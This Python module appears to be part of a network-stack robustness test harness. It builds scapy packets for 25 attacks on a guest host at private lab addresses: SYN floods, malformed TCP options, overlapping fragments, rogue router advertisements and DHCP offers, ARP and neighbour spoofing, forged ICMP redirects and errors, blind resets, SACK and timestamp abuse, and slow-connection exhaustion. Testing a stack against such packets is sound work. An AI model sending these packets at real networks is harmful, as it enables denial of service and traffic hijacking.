# SPDX-License-Identifier: MIT
"""The attacks: what a hostile station sends, as lists of packets of both families.

Each function of ATTACKS returns scapy packets for one Family (IPv4 or IPv6); one that
takes a wire first opens connections by hand (Connection), which no kernel knows of.
"""

import random
import socket
import time

from scapy.all import (ARP, ICMP, IP, TCP, UDP, Ether, ICMPv6DestUnreach, ICMPv6EchoRequest, ICMPv6MLQuery,
                       ICMPv6NDOptDstLLAddr, ICMPv6NDOptMTU, ICMPv6NDOptPrefixInfo, ICMPv6NDOptSrcLLAddr,
                       ICMPv6ND_NA, ICMPv6ND_NS, ICMPv6ND_RA, ICMPv6ND_Redirect, ICMPv6PacketTooBig, IPv6, IPv6ExtHdrDestOpt, IPv6ExtHdrFragment,
                       IPv6ExtHdrHopByHop, IPv6ExtHdrRouting, PadN, RouterAlert, raw)

PEER_MAC = "02:00:00:00:00:09"  # a station that only the attacker plays
PORT = 12865                    # netserver listens there: the honest client's
ECHO = 7                        # so does a server that answers what it reads
CLOSES = 9                      # and one that closes at once
STOPPED = 13                    # one that is stopped: nobody accepts, nobody reads
CONNECTIONS = 24                # that an attacker holds open
held = []                       # sockets of the attacker's own kernel, until the attack is over
random.seed(1)


class Family:
    """One of the two: who is who, and how packets of it begin."""

    def __init__(self, six):
        self.six = six
        self.guest, self.peer, self.us, self.nobody = (
            ("fd77::2", "fd77::9", "fd77::1", "fd77::200") if six else
            ("192.168.77.2", "192.168.77.9", "192.168.77.1", "192.168.77.200"))

    def packet(self, src=None, **kw):
        return (IPv6 if self.six else IP)(src=src or self.peer, dst=self.guest, **kw)

    def neighbour(self, i):
        """One of many addresses on the link."""
        return f"fd77::{i + 0x1000:x}" if self.six else f"192.168.77.{10 + i % 180}"

    def fragment(self, ident, offset, more, proto, data):
        """@offset in units of eight bytes."""
        if self.six:
            return self.packet() / IPv6ExtHdrFragment(id=ident, offset=offset, m=more, nh=58 if proto == 1 else proto) / data
        return self.packet(id=ident & 0xffff, frag=offset, flags=more, proto=proto) / data

    def echo(self, src=None, data=b""):
        return self.packet(src) / (ICMPv6EchoRequest(data=data) if self.six else ICMP() / data)

    def quoting(self, kind, quoted):
        """An ICMP error of @kind (0: too big, 1: unreachable) about a packet of the guest's."""
        if self.six:
            head = ICMPv6PacketTooBig(mtu=random.choice((0, 68, 1280))) if kind == 0 else \
                   ICMPv6DestUnreach(code=random.randrange(5))
        else:
            head = ICMP(type=3, code=4, nexthopmtu=random.choice((0, 68, 576))) if kind == 0 else \
                   ICMP(type=3, code=random.randrange(4))
        return self.packet() / head / raw(quoted)[:64]


def syn(f, sport, options, dport=PORT, src=None):
    return f.packet(src) / TCP(sport=sport, dport=dport, flags="S", seq=random.getrandbits(32), options=options)


def malformed_options(f):
    """Lengths of 0 and 1, beyond the header, unknown kinds; in SYNs and in segments of no connection."""
    packets, at = [], 60 if f.six else 40
    for i in range(256):
        segment = bytearray(raw(syn(f, 1024 + i, [("MSS", 1460)] * 5)))
        segment[at:at + 20] = random.randbytes(20)
        if i % 2:
            segment[at - 7] = 0x10
        segment[at - 4:at - 2] = b"\0\0"
        packet = (IPv6 if f.six else IP)(bytes(segment))
        del packet[TCP].chksum
        packets.append(packet)
    return packets


def overlapping_fragments(f):
    packets = []
    data = random.randbytes(2400)
    for i in range(100):
        at = random.randrange(1, 150)
        packets += [f.fragment(i, 0, 1, 1, data[:1200]), f.fragment(i, at, 1, 1, data[8 * at:8 * at + 1200])]
    return packets


def tiny_fragments(f):
    """Eight bytes each: headers cut, datagrams that are never whole."""
    segment = raw(TCP(sport=1, dport=PORT, flags="S", seq=1))
    return [f.fragment(i, n, 1, 6, (segment + b"x" * 64)[8 * n:8 * n + 8]) for i in range(100) for n in (0, 1, 2, 7)]


def extension_headers(f):
    """Chains of them; for IPv4 its options."""
    packets = []
    for n in (1, 5, 20, 60):
        if not f.six:
            packets.append(f.packet(options=[(b"\x07\x27\x04" + b"\0" * 36, b"\x83\x0b\x04" + b"\0" * 8, b"\x94\x00",
                                              b"\x44\x28\x05\x01" + b"\0" * 36)[n % 4]]) / ICMP())
            continue
        chain = f.packet()
        for i in range(n):
            chain /= (IPv6ExtHdrDestOpt(options=[PadN(optdata=b"\0" * 4)]), IPv6ExtHdrRouting(),
                      IPv6ExtHdrHopByHop(), IPv6ExtHdrFragment(id=i))[i % 4]
        packets.append(chain / ICMPv6EchoRequest())
        packets.append(f.packet(nh=60) / ((b"\x3c\xff" + b"\0" * 6) * n))
    return packets


def syn_flood(f):
    """At the honest client's own port, from everywhere on the link and from one station."""
    options = [("MSS", 1460), ("SAckOK", b""), ("WScale", 7)]
    return [syn(f, random.randrange(1024, 65535), options, PORT, f.neighbour(random.randrange(180)) if i % 2 else None)
            for i in range(600)]


def mss_zero(f):
    return [syn(f, 2000 + i, [("MSS", i % 3)]) for i in range(200)]


def resets(f):
    """Guesses at somebody's connection: RST, SYN and data with random numbers from every port."""
    return [f.packet(f.us) / TCP(sport=random.randrange(32768, 61000), dport=PORT, seq=random.getrandbits(32),
                                 ack=random.getrandbits(32), flags=random.choice(("R", "S", "A", "FA", "RA")))
            for _ in range(500)]


def forged_errors(f):
    """ICMP errors about connections that somebody might have, and about none."""
    packets = []
    for i in range(400):
        ours = (IPv6 if f.six else IP)(src=f.guest, dst=random.choice((f.us, f.peer)))
        ours /= TCP(sport=PORT, dport=random.randrange(32768, 61000), seq=random.getrandbits(32)) if i % 3 else \
            UDP(sport=random.randrange(65536), dport=53)
        packets.append(f.quoting(i % 2, ours))
    return packets


def echo_flood(f):
    return [f.echo(data=b"x" * (8 if i % 4 else 1200)) for i in range(100)]


def neighbours(f):
    packets = [f.echo(f.neighbour(i)) for i in range(1500)]  # more than the table holds, and none answers
    for i in range(300):
        mac = f"02:00:00:01:{i >> 8:02x}:{i & 255:02x}"
        if f.six:
            packets.append(IPv6(src=f.neighbour(i), dst="ff02::1:ff00:2") / ICMPv6ND_NS(tgt=f.guest)
                           / ICMPv6NDOptSrcLLAddr(lladdr=mac))
        else:
            packets.append(ARP(op=1, hwsrc=mac, psrc=f.neighbour(i), pdst=f.guest))
    return packets


def station(i):
    return f"02:00:00:02:{i >> 8 & 255:02x}:{i & 255:02x}"


def routers(f):
    """Advertisements: many routers and prefixes, life times that change, parameters at their bounds.

    IPv4 knows none; there, offers of a DHCP server that nobody has asked.
    """
    packets = []
    for i in range(400):
        if not f.six:
            bootp = bytes((2, 1, 6, 0)) + random.randbytes(4) + bytes(8) + random.randbytes(220) + \
                b"\x63\x82\x53\x63\x35\x01" + bytes((2 + i % 5,)) + b"\x33\x04\0\0\0\x01\xff"
            packets.append(f.packet() / UDP(sport=67, dport=68) / bootp)
            continue
        advert = IPv6(src=f"fe80::{i % 200 + 1:x}", dst="ff02::1", hlim=255) / ICMPv6ND_RA(
            chlim=random.choice((0, 1, 64, 255)), routerlifetime=random.choice((0, 1, 1800, 65535)),
            reachabletime=random.choice((0, 1, 3600000)), retranstimer=random.choice((0, 1, 100)))
        for _ in range(random.randrange(1, 12)):
            life = random.choice((0, 1, 7200, 0xffffffff))
            advert /= ICMPv6NDOptPrefixInfo(prefix=f"fd88:0:0:{random.randrange(5000):x}::", prefixlen=64, L=1, A=1,
                                            validlifetime=life, preferredlifetime=random.choice((0, life)))
        packets.append(advert / ICMPv6NDOptSrcLLAddr(lladdr=station(i)) / ICMPv6NDOptMTU(mtu=random.choice((68, 1500, 9000))))
    return packets


def duplicates(f):
    """Somebody else has every address: that of the guest, and those that follow from an advertised prefix."""
    packets = []
    for i in range(200):
        if not f.six:
            packets.append(ARP(op=1 + i % 2, hwsrc=station(i), psrc=f.guest, hwdst=PEER_MAC,
                               pdst=f.guest if i % 3 else f.neighbour(i)))
            continue
        prefix = f"fd88:0:0:{i % 8:x}:"
        router = IPv6(src=f"fe80::{i % 8 + 1:x}", dst="ff02::1", hlim=255)
        for target in (f.guest, prefix + ":", prefix + "5054:ff:fe12:3456"):
            packets += [router / ICMPv6ND_NA(tgt=target, R=0, S=0, O=1) / ICMPv6NDOptDstLLAddr(lladdr=station(i)),
                        IPv6(src="::", dst="ff02::1:ff00:2", hlim=255) / ICMPv6ND_NS(tgt=target)]
        packets.append(router / ICMPv6ND_RA(routerlifetime=1800) / ICMPv6NDOptPrefixInfo(prefix=prefix + ":", prefixlen=64))
    return packets


def redirects(f):
    """Another way to everywhere, from who might be the router and from who is not."""
    packets = []
    for i in range(400):
        source = (f.us, f.peer)[i % 2]
        if f.six:
            to = f"2001:db8::{i:x}"
            packets.append(IPv6(src="fe80::1" if i % 3 else "fe80::2", dst=f.guest, hlim=255)
                           / ICMPv6ND_Redirect(tgt=f"fe80::{i + 1:x}", dst=to) / ICMPv6NDOptDstLLAddr(lladdr=station(i)))
        else:
            quoted = IP(src=f.guest, dst=f"198.51.{i >> 8}.{i & 255}") / UDP(sport=1, dport=53)
            packets.append(IP(src=source, dst=f.guest) / ICMP(type=5, code=1, gw=f.neighbour(i)) / raw(quoted)[:28])
    return packets


def queries(f):
    """Multicast listener queries, which ask for reports."""
    if f.six:
        return [IPv6(src=f"fe80::{i + 1:x}", dst="ff02::1", hlim=1)
                / IPv6ExtHdrHopByHop(options=[RouterAlert()]) / ICMPv6MLQuery(mrd=1) for i in range(50)]
    return [IP(dst="224.0.0.1", src=f.peer, ttl=1, proto=2, options=[b"\x94\x04\0\0"]) / b"\x11\x01\xee\xfe\0\0\0\0"] * 50


def closed_udp(f):
    return [f.packet() / UDP(sport=1000, dport=random.randrange(20000, 30000)) / b"x" for _ in range(500)]


def closed_tcp(f):
    return [f.packet() / TCP(sport=1000 + i, dport=random.randrange(20000, 30000), flags="SA"[i % 2],
                             seq=random.getrandbits(32)) for i in range(500)]


class Connection:
    """A connection of the peer that nobody's kernel knows: handshake by hand."""

    def __init__(self, wire, mac, f, sport, dport=ECHO, timestamps=False):
        self.wire, self.mac, self.f, self.sport, self.dport, self.seq = wire, mac, f, sport, dport, 1000
        self.options = [("Timestamp", (1000000, 0))] if timestamps else []
        self.wire.settimeout(5)
        for attempt in range(3):  # a full queue of half-open ones drops some
            self.send("S", options=[("MSS", 1000), ("SAckOK", b"")] + self.options)
            answer = self.receive(lambda t: t.flags.S and t.flags.A, last=attempt == 2)
            if answer:
                break
        self.seq, self.ack = 1001, answer.seq + 1
        if timestamps:
            self.options = [("Timestamp", (1000001, dict(answer.options).get("Timestamp", (0, 0))[0]))]
        self.send("A", options=self.options)

    def packet(self, flags, seq=None, data=b"", options=(), ack=None, window=8192):
        return self.f.packet() / TCP(sport=self.sport, dport=self.dport, flags=flags, options=list(options),
                                     seq=(self.seq if seq is None else seq) & 0xffffffff, window=window,
                                     ack=(getattr(self, "ack", 0) if ack is None else ack) & 0xffffffff) / data

    def send(self, *args, **kw):
        self.wire.send(raw(Ether(dst=self.mac, src=PEER_MAC) / self.packet(*args, **kw)))

    def receive(self, wanted, last=True):
        end = time.monotonic() + 5
        while time.monotonic() < end:
            try:
                frame = Ether(self.wire.recv(65536))
            except TimeoutError:
                break
            if frame.haslayer(TCP) and frame.payload.src == self.f.guest and frame[TCP].dport == self.sport and \
                    wanted(frame[TCP]):
                return frame[TCP]
        if last:
            raise SystemExit("no answer to the attacker's handshake")
        return None


def out_of_order(f, connect):
    """Single bytes with holes between, all over the window."""
    c = connect(f, 3000)
    return [c.packet("A", seq=c.seq + 2 * i, data=b"x") for i in range(1, 1000)]


def many_holes(f, connect):
    """The same over many connections, and acknowledgements with blocks that change all the time."""
    held = [connect(f, 3300 + i) for i in range(CONNECTIONS)]
    packets = []
    for i in range(1, 100):
        for c in held:
            near = sorted((c.ack + random.randrange(4000)) & 0xffffffff for _ in range(6))
            packets.append(c.packet("A", seq=c.seq + 2 * random.randrange(1, 4000), data=b"x",
                                    options=[("SAck", tuple(near))] if i % 2 else []))
    return packets


def sack_lies(f, connect):
    """Blocks for what was never sent, backwards, overlapping, the whole space."""
    c = connect(f, 3001)
    c.send("PA", data=b"y" * 900)
    packets = []
    for _ in range(300):
        near = [(c.ack + random.randrange(-2000, 4000)) & 0xffffffff for _ in range(2 * random.randrange(1, 4))]
        blocks = [n if random.random() < .7 else random.getrandbits(32) for n in near]
        packets.append(c.packet("A", seq=c.seq + 900, options=[("SAck", tuple(blocks))]))
    return packets


def old_timestamps(f, connect):
    """Segments that PAWS refuses, of the past and of the far future, with data and without."""
    c = connect(f, 3002, timestamps=True)
    return [c.packet("A", data=b"z" * (i % 2), options=[("Timestamp", (random.choice((1, 0x80000000 + i)), i))])
            for i in range(300)]


def window_games(f, connect):
    """Data asked for and not taken: windows of nothing, of a byte, shrinking."""
    c = connect(f, 3003)
    packets = [c.packet("PA", data=b"w" * 900, window=0)]
    return packets + [c.packet("A", seq=c.seq + 900, window=random.choice((0, 0, 1, 100, 20)),
                               ack=c.ack + random.choice((0, 0, 1))) for _ in range(300)]


def slow_clients(f, connect):
    """Many connections to the honest client's server and an echo server, a byte of each now and then."""
    held = [connect(f, 3100 + i, ECHO if i % 2 else PORT) for i in range(CONNECTIONS)]
    return [c.packet("PA", seq=c.seq + n, data=b"q") for n in range(20) for c in held]


def never_finished(f, connect):
    """Connections that the server closes and the peer does not; every segment asks again."""
    held = [connect(f, 3200 + i, CLOSES) for i in range(CONNECTIONS)]
    return [c.packet("A", ack=c.ack + n % 2, data=b"d" * (n % 3)) for n in range(20) for c in held]


def never_accepted(f, connect):
    """A server that has stopped accepting gets more connections than it has asked for; they send, and stay."""
    for _ in range(100):
        s = socket.socket(socket.AF_INET6 if f.six else socket.AF_INET)
        s.setblocking(False)
        s.connect_ex((f.guest, STOPPED))
        held.append(s)
    time.sleep(.5)
    for s in held:
        try:
            s.send(b"n" * 4000)
        except OSError:
            pass  # there was no room for it
    packets = []
    for i in range(200):
        packets += [syn(f, 5000 + i, [("MSS", 1000)], STOPPED), f.packet() / TCP(
            sport=5000 + i, dport=STOPPED, flags="A", seq=1, ack=random.getrandbits(32))]
    return packets


def many_ends(f, connect):
    """More connections that the guest closes first than it keeps in TIME_WAIT; what comes late for them."""
    for _ in range(300):
        with socket.create_connection((f.guest, CLOSES), 5) as s:
            s.recv(1)
    packets = []
    for i in range(CONNECTIONS):  # these by hand, so that their numbers are known
        c = connect(f, 3400 + i, CLOSES)
        end = c.receive(lambda t: t.flags.F, last=False)
        ack = (end.seq + 1 if end else c.ack) & 0xffffffff
        c.send("FA", ack=ack)
        packets += [c.packet("FA", ack=ack), c.packet("S", seq=c.seq + 1 + i % 2), c.packet("A", ack=ack + i % 3),
                    c.packet("R", seq=c.seq + 1)]
    return packets


ATTACKS = [malformed_options, overlapping_fragments, tiny_fragments, extension_headers, syn_flood, mss_zero, resets,
           forged_errors, echo_flood, neighbours, routers, duplicates, redirects, queries, closed_udp, closed_tcp,
           out_of_order, many_holes, sack_lies, old_timestamps, window_games, slow_clients, never_finished,
           never_accepted, many_ends]
